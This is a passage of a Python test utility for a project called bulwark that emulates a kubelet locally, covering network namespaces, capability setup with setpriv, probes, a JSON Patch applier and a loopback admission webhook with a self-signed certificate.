#!/usr/bin/env python3
"""Runs a Pod the way a kubelet would, on this machine, with the real kernel — and the pieces
around it: an RFC 6902 JSON Patch applier, the Pod a ReplicaSet makes from a Deployment, a
bulwark-webhook on loopback with a throwaway certificate, an AdmissionReview client over TLS.

The pod: a network namespace with a veth to a "client" namespace that also plays the node
(probes come from there), IPv4 198.18.0.2/24 (client .1) and IPv6 fd00:b::2/64 (client ::1).
Volumes are directories (emptyDir, configMap, secret), mounted at their mountPath inside a
private mount namespace per container (a missing mount point is made on an overlay over its
nearest existing parent); readOnlyRootFilesystem makes / read-only there. Init containers run
one after the other and must exit 0; then every container starts (native sidecars — init
containers with restartPolicy Always — start in their turn and must pass their startup probe;
httpGet, tcpSocket and exec probes are run, exec inside the container with nsenter). Containers
start in spec order, each after the previous one's postStart exec hook returned (a failing hook
fails the pod here; the kubelet would kill and restart the container).
Each container runs with exactly the identity its securityContext (merged over the pod's) asks
for, set with setpriv: UID, GID, groups, and the capabilities = (runtime defaults − drop) ∪ add,
as bounding, inheritable and ambient set (so a granted capability is effective for a non-root
UID too), no_new_privs for allowPrivilegeEscalation: false. seccomp profiles are not applied.
A capability the spec does not grant is therefore missing — an init container that needs one
fails and so does the pod (PodFailed).

Images are not pulled: an image whose name contains "bulwark" runs this build's binaries (copied
into the pod's directory, found through PATH), any other image runs a stand-in the caller names
(e.g. a small Python HTTP app) — the runner says so for each container.

Once the pod runs, a container whose process exits is started again as the kubelet does
(restartPolicy Always / OnFailure of the pod; native sidecars always): the first restart at once,
then after the kubelet's back-off (10 s, doubling, at most 300 s; forgotten after 10 min). The
restart follows the container's exit event; a kubelet with the generic PLEG notices an exit at its
next relist (up to 1 s later). terminate() deletes the pod the kubelet's way: every container's
preStop hook (sleep, exec, httpGet) at once, SIGTERM to each container when its hook is done, then
SIGKILL at the end of terminationGracePeriodSeconds; with native sidecars the regular containers
first, the sidecars only after every regular container has exited, in reverse order. Each
container gets the open-file limit a container runtime gives (containerd on systemd: 1024 soft,
524288 hard).

Everything the pod starts has a parent-death signal and is ended by namespace (ip netns pids)
before the namespaces are deleted, so nothing outlives the runner even when it is killed.

Used by scripts/demo.sh (`podrunner.py demo ...`) and the tests/e2e/test_pod*.py tests.
"""

import base64
import copy
import hashlib
import itertools
import json
import os
import re
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from proc import kill_netns, pdeathsig, run  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))

POD_V4, CLIENT_V4 = "198.18.0.2", "198.18.0.1"
POD_V6, CLIENT_V6 = "fd00:b::2", "fd00:b::1"
PATH_DEFAULT = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
BULWARK_BINARIES = ("bulwark-init", "bulwark-proxy", "bulwark-webhook")

# Linux capability numbers (capability.h), for reading /proc/<pid>/status.
CAPS = ["CHOWN", "DAC_OVERRIDE", "DAC_READ_SEARCH", "FOWNER", "FSETID", "KILL", "SETGID",
        "SETUID", "SETPCAP", "LINUX_IMMUTABLE", "NET_BIND_SERVICE", "NET_BROADCAST", "NET_ADMIN",
        "NET_RAW", "IPC_LOCK", "IPC_OWNER", "SYS_MODULE", "SYS_RAWIO", "SYS_CHROOT", "SYS_PTRACE",
        "SYS_PACCT", "SYS_ADMIN", "SYS_BOOT", "SYS_NICE", "SYS_RESOURCE", "SYS_TIME",
        "SYS_TTY_CONFIG", "MKNOD", "LEASE", "AUDIT_WRITE", "AUDIT_CONTROL", "SETFCAP",
        "MAC_OVERRIDE", "MAC_ADMIN", "SYSLOG", "WAKE_ALARM", "BLOCK_SUSPEND", "AUDIT_READ",
        "PERFMON", "BPF", "CHECKPOINT_RESTORE"]
# What containerd and CRI-O give a container that drops nothing.
RUNTIME_DEFAULT_CAPS = ["CHOWN", "DAC_OVERRIDE", "FSETID", "FOWNER", "MKNOD", "NET_RAW", "SETGID",
                        "SETUID", "SETFCAP", "SETPCAP", "NET_BIND_SERVICE", "SYS_CHROOT", "KILL",
                        "AUDIT_WRITE"]

_seq = itertools.count()


class PodFailed(Exception):
    """The pod could not run as specified (like a kubelet's CreateContainerConfigError,
    Init:Error or a failed probe); the message says which container and why."""


# -- small helpers ------------------------------------------------------------------------------
def spawn(argv, stdout=None, stderr=None, env=None):
    return subprocess.Popen(argv, stdout=stdout, stderr=stderr, env=env, preexec_fn=pdeathsig,
                            stdin=subprocess.DEVNULL)


def free_port(host="127.0.0.1"):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind((host, 0))
        return s.getsockname()[1]


def is_root_with_net_admin():
    if os.geteuid() != 0:
        return False
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("CapEff:"):
                return bool(int(line.split()[1], 16) & (1 << 12))
    return False


def cap_names(mask):
    return [name for bit, name in enumerate(CAPS) if mask & (1 << bit)]


# -- RFC 6902 JSON Patch ------------------------------------------------------------------------
class PatchError(ValueError):
    pass


def _pointer(path):
    if path == "":
        return []
    if not path.startswith("/"):
        raise PatchError("JSON pointer must start with '/': %r" % path)
    return [t.replace("~1", "/").replace("~0", "~") for t in path[1:].split("/")]


def _index(container, token, for_add=False):
    if token == "-" and for_add:
        return len(container)
    if not re.fullmatch(r"0|[1-9][0-9]*", token):
        raise PatchError("bad array index %r" % token)
    i = int(token)
    if i > len(container) or (i == len(container) and not for_add):
        raise PatchError("array index %d out of range" % i)
    return i


def _parent(doc, tokens):
    cur = doc
    for t in tokens[:-1]:
        if isinstance(cur, list):
            cur = cur[_index(cur, t)]
        elif isinstance(cur, dict):
            if t not in cur:
                raise PatchError("path not found: /%s" % "/".join(tokens))
            cur = cur[t]
        else:
            raise PatchError("cannot descend into a scalar at %r" % t)
    return cur


def _get(doc, tokens):
    if not tokens:
        return doc
    parent = _parent(doc, tokens)
    last = tokens[-1]
    if isinstance(parent, list):
        return parent[_index(parent, last)]
    if isinstance(parent, dict) and last in parent:
        return parent[last]
    raise PatchError("path not found: /%s" % "/".join(tokens))


def _add(doc, tokens, value):
    if not tokens:
        return value
    parent = _parent(doc, tokens)
    last = tokens[-1]
    if isinstance(parent, list):
        parent.insert(_index(parent, last, for_add=True), value)
    elif isinstance(parent, dict):
        parent[last] = value
    else:
        raise PatchError("cannot add into a scalar")
    return doc


def _remove(doc, tokens):
    if not tokens:
        raise PatchError("cannot remove the whole document")
    parent = _parent(doc, tokens)
    last = tokens[-1]
    if isinstance(parent, list):
        return parent.pop(_index(parent, last))
    if isinstance(parent, dict) and last in parent:
        return parent.pop(last)
    raise PatchError("path not found: /%s" % "/".join(tokens))


def apply_patch(doc, patch):
    """Applies a JSON Patch (list of operations) to a copy of doc; PatchError on any problem
    (the whole patch fails, as RFC 6902 says)."""
    doc = copy.deepcopy(doc)
    if not isinstance(patch, list):
        raise PatchError("a JSON Patch is an array of operations")
    for op in patch:
        if not isinstance(op, dict) or "op" not in op or "path" not in op:
            raise PatchError("operation without op/path: %r" % (op,))
        kind, tokens = op["op"], _pointer(op["path"])
        if kind == "add":
            doc = _add(doc, tokens, copy.deepcopy(op["value"]))
        elif kind == "remove":
            _remove(doc, tokens)
        elif kind == "replace":
            _get(doc, tokens)
            if tokens:
                _remove(doc, tokens)
            doc = _add(doc, tokens, copy.deepcopy(op["value"]))
        elif kind in ("move", "copy"):
            src = _pointer(op["from"])
            if kind == "move" and tokens[:len(src)] == src and tokens != src:
                raise PatchError("cannot move a value into itself")
            value = copy.deepcopy(_get(doc, src))
            if kind == "move":
                _remove(doc, src)
            doc = _add(doc, tokens, value)
        elif kind == "test":
            if _get(doc, tokens) != op["value"]:
                raise PatchError("test failed at %s" % op["path"])
        else:
            raise PatchError("unknown op %r" % kind)
    return doc


# -- Deployment -> Pod (what the ReplicaSet controller creates) --------------------------------
def load_objects(path):
    """Every object of a YAML (or JSON) file."""
    import yaml  # python3-yaml (scripts/deps/demo.txt)
    with open(path) as f:
        return [d for d in yaml.safe_load_all(f) if d]


def pod_from_deployment(dep):
    meta, tmpl = dep["metadata"], dep["spec"]["template"]
    h = hashlib.sha256(json.dumps(tmpl, sort_keys=True).encode()).hexdigest()[:10]
    labels = dict(tmpl.get("metadata", {}).get("labels", {}))
    labels["pod-template-hash"] = h
    pmeta = {"generateName": "%s-%s-" % (meta["name"], h),
             "namespace": meta.get("namespace", "default"), "labels": labels,
             "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet",
                                  "name": "%s-%s" % (meta["name"], h),
                                  "uid": str(uuid.uuid4()), "controller": True,
                                  "blockOwnerDeletion": True}]}
    if tmpl.get("metadata", {}).get("annotations"):
        pmeta["annotations"] = dict(tmpl["metadata"]["annotations"])
    return {"apiVersion": "v1", "kind": "Pod", "metadata": pmeta,
            "spec": copy.deepcopy(tmpl["spec"])}


def admission_review(pod, operation="CREATE"):
    ns = pod["metadata"].get("namespace", "default")
    gvk = {"group": "", "version": "v1", "kind": "Pod"}
    gvr = {"group": "", "version": "v1", "resource": "pods"}
    return {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
            "request": {"uid": str(uuid.uuid4()), "kind": gvk, "resource": gvr,
                        "requestKind": gvk, "requestResource": gvr, "namespace": ns,
                        "operation": operation,
                        "userInfo": {"username":
                                     "system:serviceaccount:kube-system:replicaset-controller",
                                     "groups": ["system:serviceaccounts",
                                                "system:serviceaccounts:kube-system",
                                                "system:authenticated"]},
                        "object": pod, "oldObject": None, "dryRun": False,
                        "options": {"apiVersion": "meta.k8s.io/v1", "kind": "CreateOptions"}}}


# -- bulwark-webhook on loopback ------------------------------------------------------------------
class Webhook:
    """bulwark-webhook on 127.0.0.1:<free port> with a throwaway self-signed certificate
    (openssl; SAN IP:127.0.0.1), verified by the client like an API server would."""

    def __init__(self, binary, workdir, config=None, log=None):
        self.dir = os.path.join(workdir, "webhook")
        os.makedirs(self.dir, exist_ok=True)
        self.cert = os.path.join(self.dir, "tls.crt")
        self.key = os.path.join(self.dir, "tls.key")
        run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
             "-nodes", "-days", "1", "-subj", "/CN=bulwark-webhook.local", "-addext",
             "subjectAltName=IP:127.0.0.1,DNS:localhost", "-keyout", self.key, "-out", self.cert])
        self.port = free_port()
        cfg = dict(config or {})
        cfg.update({"listen": "127.0.0.1:%d" % self.port, "tls_cert": self.cert,
                    "tls_key": self.key})
        self.config_path = os.path.join(self.dir, "config.json")
        with open(self.config_path, "w") as f:
            json.dump(cfg, f)
        self.log_path = os.path.join(self.dir, "webhook.log")
        self._log = open(self.log_path, "w")
        self.proc = spawn([binary, "--config", self.config_path], stdout=self._log,
                          stderr=self._log)
        import ssl  # here, not at the top: a container's start imports this file
        self.ctx = ssl.create_default_context(cafile=self.cert)
        deadline = time.monotonic() + 15
        while True:
            try:
                if self.get("/healthz")[0] == 200:
                    break
            except OSError:
                pass
            if self.proc.poll() is not None or time.monotonic() > deadline:
                self.stop()
                raise RuntimeError("bulwark-webhook did not start: %s" % self.logs()[-2000:])
            time.sleep(0.1)

    def _conn(self):
        import http.client
        return http.client.HTTPSConnection("127.0.0.1", self.port, context=self.ctx, timeout=10)

    def get(self, path):
        c = self._conn()
        try:
            c.request("GET", path)
            r = c.getresponse()
            return r.status, r.read().decode(errors="replace")
        finally:
            c.close()

    def review(self, pod):
        """(AdmissionReview response dict, patched pod or None, the patch)"""
        body = json.dumps(admission_review(pod)).encode()
        c = self._conn()
        try:
            c.request("POST", "/inject?timeout=10s", body=body,
                      headers={"Content-Type": "application/json"})
            r = c.getresponse()
            data = r.read()
        finally:
            c.close()
        if r.status != 200:
            raise RuntimeError("webhook answered %d: %s" % (r.status, data[:500]))
        review = json.loads(data)
        resp = review.get("response") or {}
        patch = []
        if resp.get("patch"):
            if resp.get("patchType") != "JSONPatch":
                raise RuntimeError("unexpected patchType %r" % resp.get("patchType"))
            patch = json.loads(base64.b64decode(resp["patch"]))
        patched = apply_patch(pod, patch) if resp.get("allowed") else None
        return resp, patched, patch

    def logs(self):
        with open(self.log_path) as f:
            return f.read()

    def stop(self):
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(5)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(5)
        self._log.close()


# -- the kubelet-like runner ----------------------------------------------------------------------
def merged_security(pod_sc, c_sc):
    """The container's effective securityContext fields (container wins over pod)."""
    out = {}
    for k in ("runAsUser", "runAsGroup", "runAsNonRoot", "seccompProfile"):
        if k in (pod_sc or {}):
            out[k] = pod_sc[k]
    out.update(c_sc or {})
    return out


def effective_caps(sc):
    """(sorted capability names, note) the runtime would grant for this securityContext."""
    if sc.get("privileged"):
        return sorted(CAPS), "privileged: every capability"
    caps = set(RUNTIME_DEFAULT_CAPS)
    spec = sc.get("capabilities") or {}

    def norm(name):
        n = str(name).upper()
        n = n[4:] if n.startswith("CAP_") else n
        if n != "ALL" and n not in CAPS:
            raise PodFailed("unknown capability %r in the securityContext" % name)
        return n
    for n in map(norm, spec.get("drop") or []):
        caps = set() if n == "ALL" else caps - {n}
    for n in map(norm, spec.get("add") or []):
        caps = set(CAPS) if n == "ALL" else caps | {n}
    return sorted(caps), ""


class PodRunner:
    """Runs one Pod spec (a dict as the API server stores it).

    bindir: directory with bulwark-init / bulwark-proxy (the "bulwark" images).
    standin(container) -> (argv, note) for any other image; argv[0] is run as given.
    configmaps / secrets: {name: {key: value}} for configMap / secret volumes and env refs.
    log: a function taking one line (default print)."""

    def __init__(self, pod, bindir, standin, configmaps=None, secrets=None, log=print,
                 ready_timeout=20.0):
        self.pod = pod
        self.bindir = bindir
        self.standin = standin
        self.configmaps = configmaps or {}
        self.secrets = secrets or {}
        self.log = log
        self.ready_timeout = ready_timeout
        meta = pod["metadata"]
        self.name = meta.get("name") or (meta.get("generateName", "pod-") + "x7k2p")
        self.namespace = meta.get("namespace", "default")
        n = next(_seq)
        self.netns = "bw-kpod-%d-%d" % (os.getpid(), n)
        self.clientns = "bw-kcli-%d-%d" % (os.getpid(), n)
        self.ip, self.ip6, self.client_ip = POD_V4, POD_V6, CLIENT_V4
        self.dir = None
        self.procs = {}          # container name -> Popen
        self.identity = {}       # container name -> {uid, gid, caps, nnp}
        self.init_output = {}    # init container name -> (rc, stdout, stderr)
        self.notes = []          # what this runner did differently from a kubelet
        self.exec_probes = {}    # container name -> [(exit status, output)] of exec probes
        self.post_start = {}     # container name -> [(exit status, output)] of postStart hooks
        self.started = False
        self.restarts = []       # [{container, exit_code, exited_at, restarted_at}] (monotonic)
        self._specs = {}         # container name -> its spec path (for restarts and hooks)
        self._lock = threading.RLock()
        self._ending = threading.Event()   # terminate() or stop(): no more restarts
        self._watcher = None

    # -- lifecycle -------------------------------------------------------------------------------
    def __enter__(self):
        self.start()
        return self

    def __exit__(self, *exc):
        self.stop()

    def start(self):
        self.dir = tempfile.mkdtemp(prefix="bulwark-pod-")
        os.chmod(self.dir, 0o755)
        try:
            os.makedirs(os.path.join(self.dir, "status"))
            self._network()
            self._image()
            self.volumes = self._volumes()
            spec = self.pod["spec"]
            sidecars = []
            for c in spec.get("initContainers") or []:
                if c.get("restartPolicy") == "Always":
                    self._start(c, init=True)
                    sidecars.append(c)
                    self._wait_probe(c, "startupProbe")
                else:
                    self._run_init(c)
            for c in spec.get("containers") or []:
                self._start(c)
            for c in sidecars + list(spec.get("containers") or []):
                self._wait_ready(c)
            self.started = True
            nofile = container_nofile()
            if nofile[1] < CONTAINER_NOFILE[1]:
                self.notes.append("open-file limit %d/%d (a container runtime gives %d/%d; raising "
                                  "it needs CAP_SYS_RESOURCE)" % (nofile + CONTAINER_NOFILE))
            self._watcher = threading.Thread(target=self._watch, name="restarts", daemon=True)
            self._watcher.start()
        except BaseException:
            self.stop()
            raise
        return self

    def stop(self):
        self._ending.set()
        if self._watcher is not None and self._watcher is not threading.current_thread():
            self._watcher.join(10)
        for ns in (self.netns, self.clientns):
            kill_netns(ns)
        for p in self.procs.values():
            try:
                p.wait(5)
            except subprocess.TimeoutExpired:
                pass
        for ns in (self.netns, self.clientns):
            run(["ip", "netns", "del", ns], check=False)
        for f in getattr(self, "_files", []):
            f.close()
        self._files = []
        if self.dir and os.environ.get("BULWARK_KEEP_POD_DIR") != "1":
            shutil.rmtree(self.dir, ignore_errors=True)

    # -- set-up ----------------------------------------------------------------------------------
    def _network(self):
        for ns in (self.netns, self.clientns):
            run(["ip", "netns", "add", ns])
            run(["ip", "-n", ns, "link", "set", "lo", "up"])
        run(["ip", "-n", self.netns, "link", "add", "eth0", "type", "veth", "peer", "name",
             "eth0", "netns", self.clientns])
        for ns, v4, v6 in ((self.netns, POD_V4, POD_V6), (self.clientns, CLIENT_V4, CLIENT_V6)):
            run(["ip", "-n", ns, "addr", "add", v4 + "/24", "dev", "eth0"])
            run(["ip", "-n", ns, "addr", "add", v6 + "/64", "dev", "eth0", "nodad"])
            run(["ip", "-n", ns, "link", "set", "eth0", "up"])

    def _image(self):
        """The bulwark image: this build's binaries, readable and runnable by any UID."""
        self.imagebin = os.path.join(self.dir, "image", "bin")
        os.makedirs(self.imagebin)
        for b in BULWARK_BINARIES:
            src = os.path.join(self.bindir, b)
            if os.access(src, os.X_OK):
                shutil.copy(src, os.path.join(self.imagebin, b))
                os.chmod(os.path.join(self.imagebin, b), 0o755)
        os.chmod(os.path.dirname(self.imagebin), 0o755)

    def _volumes(self):
        vols = {}
        base = os.path.join(self.dir, "volumes")
        os.makedirs(base)
        os.chmod(base, 0o755)
        for v in self.pod["spec"].get("volumes") or []:
            path = os.path.join(base, v["name"])
            os.makedirs(path)
            if "emptyDir" in v:
                os.chmod(path, 0o777)
            elif "configMap" in v or "secret" in v:
                src = v.get("configMap") or v.get("secret")
                name = src.get("name") if "configMap" in v else src.get("secretName")
                data = (self.configmaps if "configMap" in v else self.secrets).get(name)
                if data is None and not src.get("optional"):
                    raise PodFailed("volume %s: %s %s not found (not optional)" % (
                        v["name"], "configMap" if "configMap" in v else "secret", name))
                for k, val in (data or {}).items():
                    with open(os.path.join(path, k), "w") as f:
                        f.write(val)
                    os.chmod(os.path.join(path, k), 0o644)
                os.chmod(path, 0o755)
            else:
                kind = [k for k in v if k != "name"]
                self.notes.append("volume %s (%s) is an empty directory here" % (v["name"], kind))
                os.chmod(path, 0o777)
            vols[v["name"]] = path
        return vols

    # -- one container ---------------------------------------------------------------------------
    def _env(self, c):
        env = {"PATH": PATH_DEFAULT, "HOSTNAME": self.name}
        field = {"metadata.name": self.name, "metadata.namespace": self.namespace,
                 "status.podIP": self.ip, "status.podIPs": "%s,%s" % (self.ip, self.ip6),
                 "spec.nodeName": "bulwark-local-node", "status.hostIP": self.client_ip,
                 "spec.serviceAccountName": self.pod["spec"].get("serviceAccountName",
                                                                  "default"),
                 "metadata.uid": self.pod["metadata"].get("uid", "")}
        for ref in c.get("envFrom") or []:
            src = ref.get("configMapRef") or ref.get("secretRef") or {}
            data = (self.configmaps if "configMapRef" in ref else self.secrets).get(src.get("name"))
            if data is None and not src.get("optional"):
                raise PodFailed("container %s: envFrom %s not found" % (c["name"], src.get("name")))
            for k, v in (data or {}).items():
                env[ref.get("prefix", "") + k] = v
        for e in c.get("env") or []:
            if "value" in e:
                env[e["name"]] = _expand(e["value"], env)
            elif "valueFrom" in e:
                vf = e["valueFrom"]
                if "fieldRef" in vf:
                    fp = vf["fieldRef"]["fieldPath"]
                    m = re.fullmatch(r"metadata\.(labels|annotations)\['(.+)'\]", fp)
                    if m:
                        env[e["name"]] = self.pod["metadata"].get(m.group(1), {}).get(m.group(2),
                                                                                      "")
                    elif fp in field:
                        env[e["name"]] = field[fp]
                    else:
                        raise PodFailed("container %s: env %s: unsupported fieldPath %s"
                                        % (c["name"], e["name"], fp))
                elif "secretKeyRef" in vf or "configMapKeyRef" in vf:
                    ref = vf.get("secretKeyRef") or vf.get("configMapKeyRef")
                    store = self.secrets if "secretKeyRef" in vf else self.configmaps
                    val = (store.get(ref.get("name")) or {}).get(ref.get("key"))
                    if val is None:
                        if not ref.get("optional"):
                            raise PodFailed("container %s: env %s: %s/%s not found" % (
                                c["name"], e["name"], ref.get("name"), ref.get("key")))
                        continue
                    env[e["name"]] = val
                elif "resourceFieldRef" in vf:
                    self.notes.append("container %s: env %s (resourceFieldRef) left unset"
                                      % (c["name"], e["name"]))
            else:
                env[e["name"]] = ""
        return env

    def _argv(self, c, env):
        image = c.get("image", "")
        if "bulwark" in image:
            cmd = list(c.get("command") or [])
            if not cmd:
                raise PodFailed("container %s: no command, and the entrypoint of %s is not known "
                                "here" % (c["name"], image))
            cmd = [_expand(a, env) for a in cmd + list(c.get("args") or [])]
            if "/" not in cmd[0] and not os.path.exists(os.path.join(self.imagebin, cmd[0])):
                raise PodFailed("container %s: %s is not in the image (this build has %s)"
                                % (c["name"], cmd[0], ", ".join(os.listdir(self.imagebin))))
            env["PATH"] = self.imagebin + ":" + env["PATH"]
            return cmd, "image %s -> this build's %s" % (image, cmd[0])
        argv, note = self.standin(c)
        return argv, "image %s -> %s" % (image, note)

    def _identity(self, c):
        sc = merged_security(self.pod["spec"].get("securityContext"), c.get("securityContext"))
        uid = sc.get("runAsUser", 0)
        gid = sc.get("runAsGroup", 0)
        if sc.get("runAsNonRoot") and uid == 0:
            raise PodFailed("container %s: runAsNonRoot and the user is root (kubelet: "
                            "CreateContainerConfigError)" % c["name"])
        groups = []
        psc = self.pod["spec"].get("securityContext") or {}
        if "fsGroup" in psc:
            groups.append(psc["fsGroup"])
        groups += list(psc.get("supplementalGroups") or [])
        caps, note = effective_caps(sc)
        nnp = sc.get("allowPrivilegeEscalation") is False
        return {"uid": uid, "gid": gid, "groups": groups, "caps": caps, "nnp": nnp,
                "ro_root": bool(sc.get("readOnlyRootFilesystem")), "note": note}

    def _mounts(self, c):
        out = []
        for m in c.get("volumeMounts") or []:
            if m["name"] not in self.volumes:
                raise PodFailed("container %s: volumeMount %s names no volume"
                                % (c["name"], m["name"]))
            src = self.volumes[m["name"]]
            if m.get("subPath"):
                src = os.path.join(src, m["subPath"])
            out.append({"src": src, "dst": m["mountPath"], "ro": bool(m.get("readOnly"))})
        return out

    def _container_spec(self, c):
        env = self._env(c)
        argv, how = self._argv(c, env)
        ident = self._identity(c)
        capspec = ",".join(["-all"] + ["+" + n.lower() for n in ident["caps"]])
        setpriv = ["setpriv", "--reuid", str(ident["uid"]), "--regid", str(ident["gid"])]
        setpriv += (["--groups", ",".join(map(str, ident["groups"]))] if ident["groups"]
                    else ["--clear-groups"])
        setpriv += ["--inh-caps", capspec, "--ambient-caps", capspec, "--bounding-set", capspec]
        if ident["nnp"]:
            setpriv.append("--no-new-privs")
        setpriv += ["--pdeathsig", "KILL", "--"]
        scratch = os.path.join(self.dir, "scratch", c["name"])
        os.makedirs(scratch, exist_ok=True)
        spec = {"name": c["name"], "mounts": self._mounts(c), "ro_root": ident["ro_root"],
                "scratch": scratch, "setpriv": setpriv, "argv": argv, "env": env,
                "cwd": c.get("workingDir") or "/",
                "identity_out": os.path.join(self.dir, "status", "identity-%s.txt" % c["name"])}
        path = os.path.join(self.dir, "container-%s.json" % c["name"])
        with open(path, "w") as f:
            json.dump(spec, f)
        self.log("  %-14s %s; uid %d gid %d, capabilities: %s%s" % (
            c["name"], how, ident["uid"], ident["gid"], ",".join(ident["caps"]) or "none",
            "; no_new_privs" if ident["nnp"] else ""))
        return path, spec

    def _launch(self, c):
        path, spec = self._container_spec(c)
        if not hasattr(self, "_files"):
            self._files = []
        # appended to: a restarted container's earlier output stays (kubectl logs --previous)
        out = open(os.path.join(self.dir, "%s.stdout" % c["name"]), "a")
        err = open(os.path.join(self.dir, "%s.stderr" % c["name"]), "a")
        for stale in (spec["identity_out"], spec["identity_out"] + ".done"):
            if os.path.exists(stale):
                os.unlink(stale)
        self._files += [out, err]
        # -S: no site packages (the standard library is all it needs; a restart is timed)
        p = spawn(["ip", "netns", "exec", self.netns, sys.executable, "-S",
                   os.path.abspath(__file__), "--exec-container", path], stdout=out, stderr=err)
        self.procs[c["name"]] = p
        self._specs[c["name"]] = spec
        return p, spec

    def _read_identity(self, spec, timeout=10.0):
        deadline = time.monotonic() + timeout
        while not os.path.exists(spec["identity_out"] + ".done"):
            if time.monotonic() > deadline:
                return None
            time.sleep(0.02)
        ident = {}
        with open(spec["identity_out"]) as f:
            for line in f:
                k, _, v = line.partition(":")
                ident[k.strip()] = v.strip()
        caps = cap_names(int(ident.get("CapEff", "0"), 16))
        got = {"uid": int(ident.get("Uid", "-1").split()[0]),
               "gid": int(ident.get("Gid", "-1").split()[0]),
               "caps": caps, "bounding": cap_names(int(ident.get("CapBnd", "0"), 16)),
               "nnp": ident.get("NoNewPrivs") == "1"}
        self.identity[spec["name"]] = got
        return got

    def _run_init(self, c, timeout=60):
        self.log("init container %s:" % c["name"])
        p, spec = self._launch(c)
        try:
            rc = p.wait(timeout)
        except subprocess.TimeoutExpired:
            p.kill()
            raise PodFailed("init container %s did not finish in %d s" % (c["name"], timeout))
        self._read_identity(spec, timeout=0.1)
        out, err = self.read_output(c["name"])
        self.init_output[c["name"]] = (rc, out, err)
        if rc != 0:
            raise PodFailed("init container %s exited %d (Init:Error):\n%s%s"
                            % (c["name"], rc, out, err))

    def _start(self, c, init=False):
        self.log("%s %s:" % ("sidecar (native)" if init else "container", c["name"]))
        _, spec = self._launch(c)
        if self._read_identity(spec) is None:
            out, err = self.read_output(c["name"])
            raise PodFailed("container %s did not start: %s%s" % (c["name"], out, err))
        if not self._post_start(c):
            rc, out = self.post_start[c["name"]][-1]
            raise PodFailed("container %s: postStart hook failed (FailedPostStartHook, exit %s):"
                            " %s" % (c["name"], rc, out))

    def _post_start(self, c):
        """The container's postStart exec hook, as the kubelet runs it: inside the container,
        right after it started, and the next container starts only once it returned. True when
        there is none or it exited 0 (a failing hook: the kubelet kills the container)."""
        hook = ((c.get("lifecycle") or {}).get("postStart") or {})
        if not hook:
            return True
        if "exec" not in hook:
            self.notes.append("container %s: postStart %s not run" % (c["name"], list(hook)))
            return True
        saved = self.exec_probes.get(c["name"])
        ok = self._exec_ok(c, {"exec": hook["exec"], "timeoutSeconds": 120})
        rec = self.exec_probes[c["name"]].pop()
        if saved is None and not self.exec_probes[c["name"]]:
            del self.exec_probes[c["name"]]
        self.post_start.setdefault(c["name"], []).append(rec)
        if not ok:
            p = self.procs.get(c["name"])
            if p is not None and p.poll() is None:
                p.kill()
        return ok

    def _probe_ok(self, c, probe):
        if "httpGet" in probe:
            g = probe["httpGet"]
            port = self._port(c, g.get("port"))
            url = "http://%s:%d%s" % (self.ip, port, g.get("path", "/"))
            res = self.client(["curl", "-s", "-o", "/dev/null", "-m", "2", "-w", "%{http_code}",
                               url], check=False)
            return res.stdout.strip().isdigit() and 200 <= int(res.stdout) < 400
        if "tcpSocket" in probe:
            return self._tcp_ok(self.ip, self._port(c, probe["tcpSocket"].get("port")),
                                ns=self.clientns)
        if "exec" in probe:
            return self._exec_ok(c, probe)
        self.notes.append("container %s: probe %s not run" % (c["name"], list(probe)))
        return True

    def _exec_ok(self, c, probe):
        """An exec probe: the command inside the running container (its mount and network
        namespaces, UID, capabilities and environment), like the kubelet's ExecSync."""
        with open(os.path.join(self.dir, "container-%s.json" % c["name"])) as f:
            spec = json.load(f)
        pid = self.procs[c["name"]].pid
        argv = ["nsenter", "-t", str(pid), "-m", "-n", "--"] + spec["setpriv"] + \
            [_expand(a, spec["env"]) for a in probe["exec"].get("command") or []]
        try:
            res = subprocess.run(argv, capture_output=True, text=True, env=spec["env"],
                                 timeout=probe.get("timeoutSeconds", 1))
            rc, out = res.returncode, res.stdout + res.stderr
        except subprocess.TimeoutExpired:
            rc, out = -1, "timed out"
        self.exec_probes.setdefault(c["name"], []).append((rc, out))
        return rc == 0

    def _port(self, c, port):
        if isinstance(port, int) or (isinstance(port, str) and port.isdigit()):
            return int(port)
        for p in c.get("ports") or []:
            if p.get("name") == port:
                return p["containerPort"]
        raise PodFailed("container %s: probe port %r is not a declared port" % (c["name"], port))

    def _tcp_ok(self, host, port, ns):
        probe = ("import socket,sys\ns=socket.socket(socket.AF_INET6 if ':' in sys.argv[1] else "
                 "socket.AF_INET)\ns.settimeout(0.5)\ns.connect((sys.argv[1],int(sys.argv[2])))")
        return run(["ip", "netns", "exec", ns, sys.executable, "-c", probe, host, str(port)],
                   check=False).returncode == 0

    def _wait_probe(self, c, kind):
        probe = c.get(kind)
        if not probe:
            return
        deadline = time.monotonic() + self.ready_timeout
        while not self._probe_ok(c, probe):
            p = self.procs.get(c["name"])
            if p is not None and p.poll() is not None:
                out, err = self.read_output(c["name"])
                raise PodFailed("container %s exited %d:\n%s%s" % (c["name"], p.returncode,
                                                                   out[-2000:], err[-2000:]))
            if time.monotonic() > deadline:
                raise PodFailed("container %s: %s failing after %.0f s" % (
                    c["name"], kind, self.ready_timeout))
            time.sleep(0.1)

    def _wait_ready(self, c):
        if c.get("readinessProbe"):
            self._wait_probe(c, "readinessProbe")
            return
        # No probe: wait for its declared TCP ports inside the pod (a kubelet would not wait;
        # the tests want a settled pod).
        deadline = time.monotonic() + self.ready_timeout
        for p in c.get("ports") or []:
            if p.get("protocol", "TCP") != "TCP":
                continue
            while not self._tcp_ok("127.0.0.1", p["containerPort"], ns=self.netns):
                proc = self.procs.get(c["name"])
                if proc is not None and proc.poll() is not None:
                    out, err = self.read_output(c["name"])
                    raise PodFailed("container %s exited %d:\n%s%s" % (
                        c["name"], proc.returncode, out[-2000:], err[-2000:]))
                if time.monotonic() > deadline:
